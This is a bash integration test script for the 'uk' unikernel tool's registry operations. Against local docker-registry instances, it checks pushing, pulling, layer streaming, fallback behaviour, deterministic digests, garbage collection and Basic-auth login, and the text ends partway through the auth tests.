#!/usr/bin/env bash
# uk push/pull/run/rmi/gc/login and uk pkg push against Debian's
# docker-registry (started here on 127.0.0.1, one anonymous instance and one
# with htpasswd Basic auth), checked with skopeo and umoci; bad cases against
# tests/registry/faultsrv (corrupt blob, unknown manifest type, 503s, Bearer).
. "$(dirname "$0")/lib.sh"

if ! command -v docker-registry >/dev/null || ! command -v htpasswd >/dev/null; then
	fail registry_setup "docker-registry or htpasswd missing; run scripts/install-deps"
	exit 0
fi

# free_port, wait_http, start_registry NAME PORT [htpasswd], stop_registry NAME
. "$UK_ROOT/tests/registry/start.sh"
pids=()
cleanup() {
	stop_registry anon; stop_registry auth
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	rm -rf "$tmp"
}
trap cleanup EXIT

PA=$(free_port) && start_registry anon "$PA" || { fail registry_setup "cannot start docker-registry: $(cat "$tmp/anon/log" 2>/dev/null | tail -3)"; exit 0; }
A=127.0.0.1:$PA
home0=$UK_HOME

# A project, built once.
"$UK" init "$tmp/p" >/dev/null 2>&1 && "$UK" build -C "$tmp/p" >/dev/null 2>&1 ||
	{ fail registry_setup "cannot build a project"; exit 0; }
img=$tmp/p/build/kvm/p

# --- push ---------------------------------------------------------------
out=$("$UK" push -C "$tmp/p" "$A/team/hello:1" 2>&1)
if [ $? -eq 0 ] && grep -q '2 blobs uploaded' <<<"$out"; then pass push_image; else fail push_image "$out"; fi
d1=$(grep -o 'sha256:[0-9a-f]*' <<<"$out" | head -1)
out=$("$UK" push -C "$tmp/p" "$A/team/hello:1" 2>&1)
d2=$(grep -o 'sha256:[0-9a-f]*' <<<"$out" | head -1)
if grep -q '0 blobs uploaded, 2 already there' <<<"$out" && [ "$d1" = "$d2" ] && [ -n "$d1" ]; then
	pass push_twice_same_digest_no_upload
else
	fail push_twice_same_digest_no_upload "$d1 vs $d2: $out"
fi
out=$("$UK" push "$img" "$A/team/one" 2>&1)
if [ $? -eq 0 ] && grep -q "@$d1" <<<"$out"; then pass push_image_file_same_digest; else fail push_image_file_same_digest "$out (want $d1)"; fi
# team/one got its blobs by cross-repository mount from team/hello.
if grep -q "0 blobs uploaded, 0 already there, 2 mounted" <<<"$out"; then pass push_mounts_from_other_repo; else fail push_mounts_from_other_repo "$out"; fi

# The store's blobs are synced to the disk; the caches a push writes (the
# packed layer's, the registries a blob went to) are not: each fsync of a
# file and of its folder is 1-3 ms, and a lost cache entry costs a redo.
head -c 100000 /dev/urandom >"$tmp/fsync-kernel"
if command -v strace >/dev/null; then
	strace -f -y -e trace=fsync,fdatasync -o "$tmp/fsync.trace" "$UK" push "$tmp/fsync-kernel" "$A/team/fsync:1" >"$tmp/fsync.out" 2>&1
	rc=$?
	if [ $rc -eq 0 ] && grep -q "fsync([0-9]*<$UK_HOME/blobs/sha256>" "$tmp/fsync.trace" &&
		! grep -q "<$UK_HOME/cache/" "$tmp/fsync.trace" &&
		[ -n "$(ls "$UK_HOME/cache/layers" 2>/dev/null)" ] && [ -n "$(ls "$UK_HOME/cache/pushed" 2>/dev/null)" ]; then
		pass push_caches_not_synced
	else
		fail push_caches_not_synced "rc=$rc: $(cat "$tmp/fsync.out"); synced: $(grep -o '<[^>]*>' "$tmp/fsync.trace" | sort -u | tr '\n' ' ')"
	fi
fi

# Chunked upload (PATCH with Content-Range, Location followed each time).
out=$(UK_CHUNK_SIZE=4096 "$UK" push -C "$tmp/p" "$A/team/chunked:1" 2>&1)
if [ $? -eq 0 ] && grep -q "@$d1" <<<"$out" &&
	skopeo copy -q --src-tls-verify=false "docker://$A/team/chunked:1" "oci:$tmp/ocic:c" >/dev/null 2>&1 &&
	cmp -s "$tmp/ocic/blobs/sha256/$(jq -r '.layers[0].digest' "$tmp/ocic/blobs/sha256/$(jq -r '.manifests[0].digest' "$tmp/ocic/index.json" | cut -d: -f2)" | cut -d: -f2)" \
		"$UK_HOME/blobs/sha256/$(jq -r '.layers[0].digest' "$UK_HOME/blobs/sha256/$(jq -r '.manifests[0].digest' "$UK_HOME/blobs/sha256/${d1#sha256:}" | cut -d: -f2)" | cut -d: -f2)"; then
	pass push_chunked_upload
else
	fail push_chunked_upload "$out"
fi

# A rebuilt image is packed again, not taken from uk's layer cache.
cp -r "$tmp/p" "$tmp/p3"
sed -i 's/Hello from/Hullo from/' "$tmp/p3/src/main.c"
"$UK" build -C "$tmp/p3" >/dev/null 2>&1
out=$("$UK" push -C "$tmp/p3" "$A/team/hello:3" 2>&1)
d3=$(grep -o 'sha256:[0-9a-f]*' <<<"$out" | head -1)
if [ $? -eq 0 ] && [ -n "$d3" ] && [ "$d3" != "$d1" ] && grep -q '2 blobs uploaded' <<<"$out"; then
	pass push_rebuilt_image_repacked
else
	fail push_rebuilt_image_repacked "$d3 vs $d1: $out"
fi

# uk push packs into the user store without tagging: uk gc drops the
# blobs and uk's caches about them, and the next push packs again.
ls "$UK_HOME/cache/layers" "$UK_HOME/cache/pushed" >/dev/null 2>&1 && before=ok || before=missing
# A built-in component unpacked into the user store stays.
bhex=$(jq -r '.manifests[0].digest' "$UK_BUILTIN_STORE/index.json" | cut -d: -f2)
mkdir -p "$UK_HOME/unpacked/$bhex"
nunpacked=$(ls "$UK_HOME/unpacked" | wc -l)
out=$("$UK" gc 2>&1)
if [ "$before" = ok ] && [ "$nunpacked" -gt 0 ] && [ "$(ls "$UK_HOME/unpacked" | wc -l)" -eq "$nunpacked" ] && [ -z "$(ls -A "$UK_HOME/cache/layers")" ] && [ -z "$(ls -A "$UK_HOME/cache/pushed")" ] &&
	"$UK" images | grep -q 'uk-runtime' && out2=$("$UK" push -C "$tmp/p" "$A/team/hello:1" 2>&1) && grep -q "@$d1" <<<"$out2"; then
	pass gc_drops_push_caches
else
	fail gc_drops_push_caches "$before $out ${out2:-}"
fi

# --- what skopeo and umoci see --------------------------------------------
raw=$(skopeo inspect --raw --tls-verify=false "docker://$A/team/hello:1" 2>&1)
if [ "$(jq -r .mediaType <<<"$raw")" = application/vnd.oci.image.index.v1+json ] &&
	[ "$(jq -r '.manifests[0].platform.architecture' <<<"$raw")" = amd64 ] &&
	[ "$(jq -r '.manifests[0].annotations["dev.uk.target"]' <<<"$raw")" = kvm ]; then
	pass skopeo_inspect_index
else
	fail skopeo_inspect_index "$raw"
fi
md=$(jq -r '.manifests[0].digest' <<<"$raw")
man=$(skopeo inspect --raw --tls-verify=false "docker://$A/team/hello@$md" 2>&1)
if [ "$(jq -r '.annotations["com.urunc.unikernel.binary"]' <<<"$man")" = /unikernel/p ] &&
	[ "$(jq -r '.annotations["com.urunc.unikernel.hypervisor"]' <<<"$man")" = qemu ] &&
	[ "$(jq -r '.annotations["com.urunc.unikernel.unikernelType"]' <<<"$man")" != null ] &&
	[ "$(jq -r '.annotations["dev.uk.runtime.version"]' <<<"$man")" != unknown ] &&
	[ "$(jq -r '.config.mediaType' <<<"$man")" = application/vnd.oci.image.config.v1+json ]; then
	pass skopeo_inspect_manifest_annotations
else
	fail skopeo_inspect_manifest_annotations "$man"
fi
if skopeo copy -q --src-tls-verify=false "docker://$A/team/hello:1" "oci:$tmp/oci:hello" >"$tmp/sk.log" 2>&1 &&
	umoci unpack --rootless --image "$tmp/oci:hello" "$tmp/bundle" >>"$tmp/sk.log" 2>&1 &&
	cmp -s "$tmp/bundle/rootfs/unikernel/p" "$img" &&
	[ "$(jq -r '.process.args[0]' "$tmp/bundle/config.json")" = /unikernel/p ]; then
	pass skopeo_copy_umoci_unpack
else
	fail skopeo_copy_umoci_unpack "$(tail -5 "$tmp/sk.log")"
fi

# --- big layers (issue 14) ------------------------------------------------------
# 40 MiB that compresses (uk's own binary, repeated: gzipped as twenty 2 MiB
# members by two threads) and 20 MiB of random bytes (stored, level 0). Two
# pushes from empty stores, one of them on a single CPU, give the same
# digests and the same layer bytes; skopeo + umoci, gzip + tar and uk pull
# all read the layers back to the same kernel.
for i in $(seq 20); do cat "$UK"; done | head -c $((40 << 20)) >"$tmp/bigc"
head -c $((20 << 20)) /dev/urandom >"$tmp/bigr"
# layer_of HOME DIGEST: the path of the image's one layer in store HOME
layer_of() {
	local m
	m=$(jq -r '.manifests[0].digest' "$1/blobs/sha256/${2#sha256:}" | cut -d: -f2)
	echo "$1/blobs/sha256/$(jq -r '.layers[0].digest' "$1/blobs/sha256/$m" | cut -d: -f2)"
}
for k in c r; do
	f=$tmp/big$k
	o1=$(UK_HOME=$tmp/big-a$k "$UK" push "$f" "$A/big/$k:1" 2>&1)
	o2=$(UK_HOME=$tmp/big-b$k taskset -c 0 "$UK" push "$f" "$A/big/$k:2" 2>&1)
	b1=$(grep -o 'sha256:[0-9a-f]*' <<<"$o1" | head -1)
	b2=$(grep -o 'sha256:[0-9a-f]*' <<<"$o2" | head -1)
	l1=$(layer_of "$tmp/big-a$k" "$b1" 2>/dev/null)
	# the layer, synced and named after its upload, is in the store by then
	if [ -n "$b1" ] && [ "$b1" = "$b2" ] && cmp -s "$l1" "$(layer_of "$tmp/big-b$k" "$b2" 2>/dev/null)" &&
		[ "$(sha256sum <"$l1" | cut -d' ' -f1)" = "${l1##*/}" ] && [ -z "$(ls -A "$tmp/big-a$k/.tmp")" ]; then
		pass "push_big_$k-same_digest_twice"
	else
		fail "push_big_$k-same_digest_twice" "$b1 vs $b2: $o1 / $o2"
	fi
	# compressed to under 60% / stored: at most 0.1% more than the tar
	size=$(stat -c %s "$l1" 2>/dev/null || echo 0)
	if { [ $k = c ] && [ "$size" -lt $((24 << 20)) ]; } ||
		{ [ $k = r ] && [ "$size" -gt $((20 << 20)) ] && [ "$size" -lt $(((20 << 20) + (20 << 10))) ]; }; then
		pass "push_big_$k-layer_size"
	else
		fail "push_big_$k-layer_size" "$size bytes"
	fi
	rm -rf "$tmp/big-oci" "$tmp/big-bundle"
	if skopeo inspect --tls-verify=false "docker://$A/big/$k:1" >"$tmp/big.log" 2>&1 &&
		skopeo copy -q --src-tls-verify=false "docker://$A/big/$k:1" "oci:$tmp/big-oci:x" >>"$tmp/big.log" 2>&1 &&
		umoci unpack --rootless --image "$tmp/big-oci:x" "$tmp/big-bundle" >>"$tmp/big.log" 2>&1 &&
		cmp -s "$tmp/big-bundle/rootfs/unikernel/big$k" "$f"; then
		pass "push_big_$k-skopeo_umoci_read_it"
	else
		fail "push_big_$k-skopeo_umoci_read_it" "$(tail -5 "$tmp/big.log")"
	fi
	# c: tar+gzip; r: the plain tar, its digest the config's diff_id
	m1=$(jq -r '.manifests[0].digest' "$tmp/big-a$k/blobs/sha256/${b1#sha256:}" 2>/dev/null | cut -d: -f2)
	mt=$(jq -r '.layers[0].mediaType' "$tmp/big-a$k/blobs/sha256/$m1" 2>/dev/null)
	c1=$(jq -r '.config.digest' "$tmp/big-a$k/blobs/sha256/$m1" 2>/dev/null | cut -d: -f2)
	dd=$(jq -r '.rootfs.diff_ids[0]' "$tmp/big-a$k/blobs/sha256/$c1" 2>/dev/null)
	if { [ $k = c ] && [ "$mt" = application/vnd.oci.image.layer.v1.tar+gzip ] && gzip -t "$l1" &&
		gzip -dc "$l1" | tar -xOf - "unikernel/big$k" | cmp -s - "$f" &&
		[ "$(gzip -dc "$l1" | sha256sum | cut -d' ' -f1)" = "${dd#sha256:}" ]; } ||
		{ [ $k = r ] && [ "$mt" = application/vnd.oci.image.layer.v1.tar ] && [ "$dd" = "sha256:${l1##*/}" ] &&
			tar -xOf "$l1" "unikernel/big$k" | cmp -s - "$f"; }; then
		pass "push_big_$k-layer_type_diff_id_tar_reads_it"
	else
		fail "push_big_$k-layer_type_diff_id_tar_reads_it" "$mt diff_id $dd: $l1"
	fi
	out=$(UK_HOME=$tmp/big-p$k "$UK" pull "$A/big/$k:1" 2>&1)
	if [ $? -eq 0 ] && grep -q "$b1" <<<"$out" && cmp -s "$(layer_of "$tmp/big-p$k" "$b1")" "$l1"; then
		pass "push_big_$k-uk_pull_reads_it"
	else
		fail "push_big_$k-uk_pull_reads_it" "$out"
	fi
	rm -rf "$tmp/big-a$k" "$tmp/big-b$k" "$tmp/big-p$k" "$tmp/big-oci" "$tmp/big-bundle"
done
rm -f "$tmp/bigc" "$tmp/bigr"

# --- a big layer streamed while it is packed (issue 14) -----------------------
# Through a recording proxy (tests/registry/chunkproxy.py): the 40 MiB
# layer (twenty gzip members) goes up before its digest is known -- POST,
# one PATCH without Content-Range whose chunked body is the whole layer,
# then PUT ?digest= with no body -- and no HEAD asks for it; the config
# follows. A small layer (under 4 MiB) is pushed whole after a HEAD. A registry that
# refuses PATCH still gets the big layer whole (the stream is cancelled),
# under the same digest.
proxy() { # LOG [--no-chunks]: starts one in front of $A, sets P (host:port)
	rm -f "$tmp/pport"
	python3 "$UK_ROOT/tests/registry/chunkproxy.py" "${@:2}" "$A" "$1" "$tmp/pport" &
	pids+=($!)
	for _ in $(seq 100); do [ -s "$tmp/pport" ] && break; sleep 0.05; done
	P=127.0.0.1:$(cat "$tmp/pport" 2>/dev/null)
}
# streamed LOG REPO DIGEST SIZE: "ok", or what the log shows instead
streamed() {
	python3 - "$@" <<'P'
import sys
log, repo, digest, size = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
pre = "/v2/%s/blobs/" % repo
reqs = [l.split() for l in open(log) if l.split()[1].startswith(pre)]
names = [" ".join(r[:2]) for r in reqs]
if not reqs or reqs[0][:2] != ["POST", pre + "uploads/"]:
    sys.exit(print("the first blob request is not the layer's POST:", names[:3]))
patch = reqs[1] if len(reqs) > 1 else []
if patch[:1] != ["PATCH"] or patch[2:] != ["-", str(size), "202"]:
    sys.exit(print("not one PATCH of the whole layer (%d bytes), no Content-Range:" % size, patch))
end = reqs[2] if len(reqs) > 2 else []
if end[:1] != ["PUT"] or end[2:] != ["digest=" + digest, "-", "0", "201"]:
    sys.exit(print("the PATCH is followed by", end, names))
if any(r[0] == "HEAD" and r[1] == pre + digest for r in reqs):
    sys.exit(print("HEAD asked for the streamed layer"))
print("ok")
P
}
for i in $(seq 20); do cat "$UK"; done | head -c $((40 << 20)) >"$tmp/bigs"
proxy "$tmp/stream.log"
o1=$(UK_HOME=$tmp/st-a "$UK" push "$tmp/bigs" "$P/stream/a:1" 2>&1)
s1=$(grep -o 'sha256:[0-9a-f]*' <<<"$o1" | head -1)
sl=$(layer_of "$tmp/st-a" "$s1" 2>/dev/null)
why=$(streamed "$tmp/stream.log" stream/a "sha256:${sl##*/}" "$(stat -c %s "$sl" 2>/dev/null)" 2>&1)
if grep -q '(2 blobs uploaded' <<<"$o1" && [ "$why" = ok ]; then
	pass push_big_layer_streamed_in_one_patch
else
	fail push_big_layer_streamed_in_one_patch "$why: $o1"
fi
o=$(UK_HOME=$tmp/st-a "$UK" push "$img" "$P/stream/small:1" 2>&1)
if [ $? -eq 0 ] && ! grep -q "^PATCH /v2/stream/small/" "$tmp/stream.log" &&
	[ "$(grep -c "^HEAD /v2/stream/small/blobs/sha256:" "$tmp/stream.log")" = 2 ]; then
	pass push_small_layer_whole_after_head
else
	fail push_small_layer_whole_after_head "$o: $(grep stream/small "$tmp/stream.log")"
fi
proxy "$tmp/nochunks.log" --no-chunks
o2=$(UK_HOME=$tmp/st-b "$UK" push "$tmp/bigs" "$P/stream/b:1" 2>&1)
s2=$(grep -o 'sha256:[0-9a-f]*' <<<"$o2" | head -1)
rm -rf "$tmp/st-p"
if [ -n "$s1" ] && [ "$s2" = "$s1" ] && grep -q '(2 blobs uploaded' <<<"$o2" &&
	grep -q "^PATCH /v2/stream/b/blobs/uploads/[^ ]* - [0-9]* 405$" "$tmp/nochunks.log" &&
	grep -q "^DELETE /v2/stream/b/blobs/uploads/" "$tmp/nochunks.log" &&
	grep -q "^PUT /v2/stream/b/blobs/uploads/[^ ]* digest=sha256:${sl##*/} - $(stat -c %s "$sl") 201$" "$tmp/nochunks.log" &&
	UK_HOME=$tmp/st-p "$UK" pull "$A/stream/b:1" >/dev/null 2>&1 && cmp -s "$(layer_of "$tmp/st-p" "$s1")" "$sl"; then
	pass push_big_layer_without_chunks_falls_back
else
	fail push_big_layer_without_chunks_falls_back "$s1 vs $s2: $o2: $(tail -12 "$tmp/nochunks.log")"
fi
# falls_back TEST FLAG REPO PATCH-STATUS: through a proxy started with
# FLAG, the big layer's push succeeds, its PATCH (no body read) is logged
# with PATCH-STATUS, the upload is cancelled and the layer goes up whole,
# same digest.
falls_back() {
	local log=$tmp/$1.log o rc
	proxy "$log" "$2"
	o=$(UK_HOME=$tmp/st-$3 "$UK" push "$tmp/bigs" "$P/stream/$3:1" 2>&1)
	rc=$?
	if [ $rc -eq 0 ] && [ "$(grep -o 'sha256:[0-9a-f]*' <<<"$o" | head -1)" = "$s1" ] &&
		grep -q "^PATCH /v2/stream/$3/blobs/uploads/[^ ]* - 0 $4$" "$log" &&
		grep -q "^DELETE /v2/stream/$3/blobs/uploads/" "$log" &&
		grep -q "^PUT /v2/stream/$3/blobs/uploads/[^ ]* digest=sha256:${sl##*/} - $(stat -c %s "$sl") 201$" "$log"; then
		pass "$1"
	else
		fail "$1" "rc=$rc: $o: $(tail -8 "$log")"
	fi
	rm -rf "$tmp/st-$3"
}
# A registry (or a proxy before it) that refuses the PATCH before reading
# its body and closes the connection (nginx's client_max_body_size): curl
# reads the answer, or meets a broken pipe first; either way the layer
# goes up whole.
falls_back push_big_layer_refused_early_falls_back --refuse-early e 413
# A connection dropped unanswered under the PATCH, the registry still there
# (the DELETE that cancels it is answered): the layer goes up whole too.
falls_back push_big_layer_dropped_connection_falls_back --drop-patch d 0
# A long name takes pax headers before the kernel's bytes, which are then
# read into the tar rather than mapped: the same layer either way.
long=$(printf 'k%.0s' $(seq 120))
head -c $((20 << 20)) "$tmp/bigs" >"$tmp/$long"
o=$(UK_HOME=$tmp/st-l "$UK" push "$tmp/$long" "$A/stream/long:1" 2>&1)
ll=$(layer_of "$tmp/st-l" "$(grep -o 'sha256:[0-9a-f]*' <<<"$o" | head -1)" 2>/dev/null)
if [ -n "$ll" ] && gzip -dc "$ll" | tar -xOf - "unikernel/$long" | cmp -s - "$tmp/$long" &&
	[ "$(sha256sum <"$ll" | cut -d' ' -f1)" = "${ll##*/}" ]; then
	pass push_long_name_layer_reads_back
else
	fail push_long_name_layer_reads_back "$o"
fi
rm -rf "$tmp/bigs" "$tmp/st-a" "$tmp/st-b" "$tmp/st-p" "$tmp/st-l" "$tmp/$long"

# --- a kernel that does not compress: a plain tar layer (issue 14) ----------
# Compressible kernels keep their tar+gzip layer, the same bytes on every
# machine: these digests pin them (6 MiB streamed, 2 MiB pushed whole), as
# ISA-L 2.30.0 (Debian's libisal2) compresses them at level 1. They changed
# with the move from libdeflate (d6aefa28..., 08931d1f...), then with 2 MiB
# members in place of 16 MiB (2caa7c96..., a41d8f42...).
seq 3000000 | head -c $((6 << 20)) >"$tmp/seqk"
seq 3000000 | head -c $((2 << 20)) >"$tmp/seqs"
for w in seqk:55eaa2a90fe4675f7a4fd75de9159bd01a4c692f8abd8a692e84c73faeb689b9 \
	seqs:de1e6df7db4abf48f5e8fc5dec83eca605d7d51363dc861f635574e4730d8653; do
	o=$(UK_HOME=$tmp/dz "$UK" push "$tmp/${w%%:*}" "$A/det/${w%%:*}:1" 2>&1)
	m=$(jq -r '.manifests[0].digest' "$tmp/dz/blobs/sha256/$(grep -o 'sha256:[0-9a-f]*' <<<"$o" | head -1 | cut -d: -f2)" 2>/dev/null | cut -d: -f2)
	got=$(jq -r '.layers[0] | .mediaType + " " + .digest' "$tmp/dz/blobs/sha256/$m" 2>/dev/null)
	if [ "$got" = "application/vnd.oci.image.layer.v1.tar+gzip sha256:${w#*:}" ]; then
		pass "push_compressible_${w%%:*}_digest_unchanged"
	else
		fail "push_compressible_${w%%:*}_digest_unchanged" "$got: $o"
	fi
done
rm -rf "$tmp/dz" "$tmp/seqk" "$tmp/seqs"
# 40 MiB of random bytes streamed through the recording proxy: the tar
# goes up in one PATCH (POST, PATCH, PUT ?digest=); a second
# push from an empty store gives the same digest.
head -c $((40 << 20)) /dev/urandom >"$tmp/bigt"
proxy "$tmp/tar.log"
o1=$(UK_HOME=$tmp/tt-a "$UK" push "$tmp/bigt" "$P/stream/t:1" 2>&1)
t1=$(grep -o 'sha256:[0-9a-f]*' <<<"$o1" | head -1)
tl=$(layer_of "$tmp/tt-a" "$t1" 2>/dev/null)
tm=$(jq -r '.manifests[0].digest' "$tmp/tt-a/blobs/sha256/${t1#sha256:}" 2>/dev/null | cut -d: -f2)
why=$(streamed "$tmp/tar.log" stream/t "sha256:${tl##*/}" "$(stat -c %s "$tl" 2>/dev/null)" 2>&1)
if [ "$why" = ok ] && [ "$(jq -r '.layers[0].mediaType' "$tmp/tt-a/blobs/sha256/$tm")" = application/vnd.oci.image.layer.v1.tar ] &&
	[ "$(sha256sum <"$tl" | cut -d' ' -f1)" = "${tl##*/}" ] && tar -xOf "$tl" unikernel/bigt | cmp -s - "$tmp/bigt"; then
	pass push_random_tar_layer_streamed_in_pieces
else
	fail push_random_tar_layer_streamed_in_pieces "$why: $o1"
fi
o2=$(UK_HOME=$tmp/tt-b "$UK" push "$tmp/bigt" "$A/stream/t:2" 2>&1)
if [ -n "$t1" ] && [ "$(grep -o 'sha256:[0-9a-f]*' <<<"$o2" | head -1)" = "$t1" ]; then
	pass push_random_tar_layer_same_digest_twice
else
	fail push_random_tar_layer_same_digest_twice "$o1 / $o2"
fi
rm -rf "$tmp/bigt" "$tmp/tt-a" "$tmp/tt-b" "$tmp/tt-p"
# The hello kernel padded with 2 MiB of random bytes (the sample does not
# compress: a plain tar layer): skopeo + umoci read it, and uk pull, run,
# images, inspect, rmi and gc take it.
mkdir -p "$tmp/pad"
{ cat "$img"; head -c $((2 << 20)) /dev/urandom; } >"$tmp/pad/p"
cp "$img.json" "$tmp/pad/p.json"
o=$(UK_HOME=$tmp/pad-home "$UK" push "$tmp/pad/p" "$A/team/padded:1" 2>&1)
pd=$(grep -o 'sha256:[0-9a-f]*' <<<"$o" | head -1)
pm=$(jq -r '.manifests[0].digest' "$tmp/pad-home/blobs/sha256/${pd#sha256:}" 2>/dev/null | cut -d: -f2)
rm -rf "$tmp/pad-oci" "$tmp/pad-bundle"
if [ "$(jq -r '.layers[0].mediaType' "$tmp/pad-home/blobs/sha256/$pm" 2>/dev/null)" = application/vnd.oci.image.layer.v1.tar ] &&
	skopeo copy -q --src-tls-verify=false "docker://$A/team/padded:1" "oci:$tmp/pad-oci:x" >"$tmp/pad.log" 2>&1 &&
	umoci unpack --rootless --image "$tmp/pad-oci:x" "$tmp/pad-bundle" >>"$tmp/pad.log" 2>&1 &&
	cmp -s "$tmp/pad-bundle/rootfs/unikernel/p" "$tmp/pad/p"; then
	pass push_tar_layer_skopeo_umoci_read_it
else
	fail push_tar_layer_skopeo_umoci_read_it "$o: $(tail -5 "$tmp/pad.log" 2>/dev/null)"
fi
export UK_HOME=$tmp/pad-pull
out=$("$UK" pull "$A/team/padded:1" 2>&1) &&
	out=$out$(timeout 120 "$UK" run "$A/team/padded:1" --accel tcg 2>&1 </dev/null)
if grep -q 'Hello from p' <<<"$out" && "$UK" images | grep -q "^$A/team/padded:1 *image" &&
	"$UK" inspect "$A/team/padded:1" 2>&1 | grep -q '^target: *kvm'; then
	pass pull_run_tar_layer_image
else
	fail pull_run_tar_layer_image "$out"
fi
# the kernel uk run unpacked from it, pushed again: the same image
o=$("$UK" push "$UK_HOME/unpacked/$pm/unikernel/p" "$A/team/padded-copy:1" 2>&1)
if [ $? -eq 0 ] && [ -n "$pd" ] && grep -q "@$pd" <<<"$o"; then
	pass push_pulled_tar_layer_kernel_same_digest
else
	fail push_pulled_tar_layer_kernel_same_digest "$o (want $pd)"
fi
out=$("$UK" rmi "$A/team/padded:1" 2>&1 && "$UK" gc 2>&1)
if [ $? -eq 0 ] && [ -z "$(find "$UK_HOME/blobs/sha256" -type f)" ] && [ -z "$(ls -A "$UK_HOME/unpacked" 2>/dev/null)" ]; then
	pass rmi_gc_tar_layer_image
else
	fail rmi_gc_tar_layer_image "$out"
fi
rm -rf "$tmp/pad" "$tmp/pad-home" "$tmp/pad-pull" "$tmp/pad-oci" "$tmp/pad-bundle"

# --- pull, run, images, rmi, gc ---------------------------------------------
export UK_HOME=$tmp/home-pull
out=$("$UK" pull "$A/team/hello:1" 2>&1)
if [ $? -eq 0 ] && grep -q "$d1" <<<"$out"; then pass pull_image; else fail pull_image "$out"; fi
out=$(timeout 120 "$UK" run "$A/team/hello:1" --accel tcg 2>&1 </dev/null)
if grep -q 'Hello from p' <<<"$out"; then pass run_pulled_image; else fail run_pulled_image "$out"; fi
out=$("$UK" inspect "$A/team/hello:1" 2>&1)
if printf '%s' "$out" | grep -q '^target: *kvm'; then pass inspect_pulled_ref; else fail inspect_pulled_ref "$out"; fi
out=$("$UK" run "$A/team/other:1" --accel tcg 2>&1 </dev/null)
if [ $? -ne 0 ] && grep -q "uk pull $A/team/other:1" <<<"$out"; then pass run_unpulled_ref_hints_pull; else fail run_unpulled_ref_hints_pull "$out"; fi
out=$("$UK" images 2>&1)
if grep -q "^$A/team/hello:1 *image" <<<"$out"; then pass images_lists_pulled; else fail images_lists_pulled "$out"; fi
out=$("$UK" pull "$A/team/hello:1" 2>&1)
if grep -q '0 blobs fetched, 2 already stored' <<<"$out"; then pass pull_again_fetches_nothing; else fail pull_again_fetches_nothing "$out"; fi
out=$("$UK" rmi "$A/team/hello:1" 2>&1)
rc=$?
left=$(find "$UK_HOME/blobs/sha256" -type f | wc -l)
if [ $rc -eq 0 ] && grep -q 'removed 4 blobs' <<<"$out" && [ "$left" -eq 0 ] &&
	! "$UK" run "$A/team/hello:1" --accel tcg >/dev/null 2>&1; then
	pass rmi_removes_blobs
else
	fail rmi_removes_blobs "$out; $left blobs left"
fi
"$UK" pull "$A/team/hello:1" >/dev/null 2>&1
mkdir -p "$UK_HOME/.tmp" && : >"$UK_HOME/.tmp/stale" && touch -d '2 hours ago' "$UK_HOME/.tmp/stale"
out=$("$UK" gc 2>&1)
if grep -q 'removed 0 blobs, 0 unpacked folders and 1 temporary file' <<<"$out" &&
	"$UK" images | grep -q "team/hello:1"; then
	pass gc_keeps_tagged_drops_stale_tmp
else
	fail gc_keeps_tagged_drops_stale_tmp "$out"
fi
out=$("$UK" pull "$A/team/hello:nope" 2>&1)
if [ $? -ne 0 ] && grep -q 'no such manifest in the registry' <<<"$out"; then pass pull_unknown_tag_fails; else fail pull_unknown_tag_fails "$out"; fi

# --- components by reference ------------------------------------------------
export UK_HOME=$home0
out=$("$UK" pkg push uk-runtime "$A/uk/runtime:0.1.0" 2>&1)
if [ $? -eq 0 ]; then pass pkg_push_component; else fail pkg_push_component "$out"; fi
export UK_HOME=$tmp/home-build
"$UK" init "$tmp/p2" >/dev/null 2>&1
sed -i '/^runtime:/d' "$tmp/p2/uk.yaml"
echo "runtime: $A/uk/runtime:0.1.0" >>"$tmp/p2/uk.yaml"
out=$("$UK" build -C "$tmp/p2" 2>&1)
if [ $? -eq 0 ] && jq -e --arg r "$A/uk/runtime:0.1.0" '.components[$r].digest | startswith("sha256:")' "$tmp/p2/uk.lock" >/dev/null &&
	"$UK" images | grep -q "^$A/uk/runtime:0.1.0 *component"; then
	pass build_pulls_component_by_reference
else
	fail build_pulls_component_by_reference "$out"
fi
out=$(timeout 120 "$UK" run -C "$tmp/p2" --accel tcg 2>&1 </dev/null)
if grep -q 'Hello from p2' <<<"$out"; then pass run_with_pulled_runtime; else fail run_with_pulled_runtime "$out"; fi
# Elsewhere (an empty store), uk.lock's pin is pulled by digest.
pin=$(jq -r --arg r "$A/uk/runtime:0.1.0" '.components[$r].digest' "$tmp/p2/uk.lock")
export UK_HOME=$tmp/home-build2
rm -rf "$tmp/p2/build"
out=$("$UK" build -C "$tmp/p2" 2>&1)
if [ $? -eq 0 ] && "$UK" images | grep -q "^$A/uk/runtime@$pin *component"; then
	pass build_pulls_pinned_digest
else
	fail build_pulls_pinned_digest "$out"
fi

out=$("$UK" pkg push "$A/uk/runtime:0.1.0" "$A/uk/runtime-copy:0.1.0" 2>&1)
if [ $? -eq 0 ] && grep -q '2 mounted' <<<"$out"; then pass pkg_push_cross_repo_mount; else fail pkg_push_cross_repo_mount "$out"; fi

# Two pulls at once into one store: both succeed, one whole entry.
export UK_HOME=$tmp/home-race
"$UK" pull "$A/team/hello:1" >"$tmp/race1" 2>&1 & r1=$!
"$UK" pull "$A/team/hello:1" >"$tmp/race2" 2>&1 & r2=$!
wait $r1; s1=$?; wait $r2; s2=$?
out=$(timeout 120 "$UK" run "$A/team/hello:1" --accel tcg 2>&1 </dev/null)
if [ $s1 -eq 0 ] && [ $s2 -eq 0 ] && [ "$("$UK" images | grep -c "team/hello:1")" -eq 1 ] &&
	grep -q 'Hello from p' <<<"$out" && [ -z "$(ls -A "$UK_HOME/.tmp" 2>/dev/null)" ]; then
	pass concurrent_pulls
else
	fail concurrent_pulls "$(cat "$tmp/race1" "$tmp/race2") $out"
fi

# --- Basic auth ---------------------------------------------------------------
export UK_HOME=$tmp/home-auth
htpasswd -Bbc "$tmp/htpasswd" alice wonderland >/dev/null 2>&1
PB=$(free_port) && start_registry auth "$PB" "$tmp/htpasswd" || fail registry_auth_setup "$(tail -3 "$tmp/auth/log")"
B=127.0.0.1:$PB
out=$("$UK" push -C "$tmp/p" "$B/team/hello:1" 2>&1)
if [ $? -ne 0 ] && grep -q 'needs a user name and password' <<<"$out" && grep -q 'uk login' <<<"$out"; then
	pass auth_push_without_login_fails
else
	fail auth_push_without_login_fails "$out"
fi
out=$(echo wrong | "$UK" login -u alice --password-stdin "$B" 2>&1)
if [ $? -ne 0 ] && grep -q 'refused the credentials' <<<"$out" && [ ! -e "$UK_HOME/auth.json" ]; then
	pass auth_wrong_password_refused
else
